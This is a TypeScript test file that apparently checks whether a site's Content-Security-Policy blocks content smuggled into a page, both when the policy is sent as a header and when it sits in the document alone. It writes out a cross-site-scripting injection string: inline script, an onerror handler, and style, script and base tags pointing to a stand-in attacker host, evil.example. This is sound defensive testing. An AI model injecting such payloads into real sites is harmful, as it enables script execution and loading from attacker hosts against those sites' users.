import { expect, it } from 'vitest';
import { noteRefusals } from './held.ts';
import { pages, servedSite } from './site.ts';

/* The Content-Security-Policy stops what was smuggled in. That it stops nothing else is seen to in axe.test.ts. */

const site = servedSite();

const attack =
  '<script>window.attacked = "script"</script><img src="/none.png" onerror="window.attacked = \'handler\'">' +
  '<style>h1 { background: url(https://evil.example/x.png) }</style>' +
  '<script src="https://evil.example/x.js"></script><base href="https://evil.example/">';

it.each([
  ['with the header', (headers: Record<string, string>) => headers],
  ['in the document alone', ({ 'content-security-policy': _, ...headers }: Record<string, string>) => headers],
])('the policy %s stops what was smuggled into a page', async (_name, change) => {
  const outside: string[] = [];
  const { page } = await site.open(pages.command, {
    before: async (opening) => {
      await opening.addInitScript(noteRefusals);
      await opening.route('https://evil.example/**', (route) => {
        outside.push(route.request().url());
        return route.fulfill({ contentType: 'text/javascript', body: 'window.attacked = "file"' });
      });
      await opening.route(`**${pages.command}`, async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace('<main', `${attack}<main`);
        await route.fulfill({ response, headers: change(response.headers()), body });
      });
    },
  });
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(outside).toEqual([]);
  const directives = (await page.evaluate<string[]>('window.refused')).map((text) => text.split(' ', 1)[0]);
  expect(new Set(directives)).toEqual(new Set(['script-src-elem', 'script-src-attr', 'img-src', 'base-uri']));
});
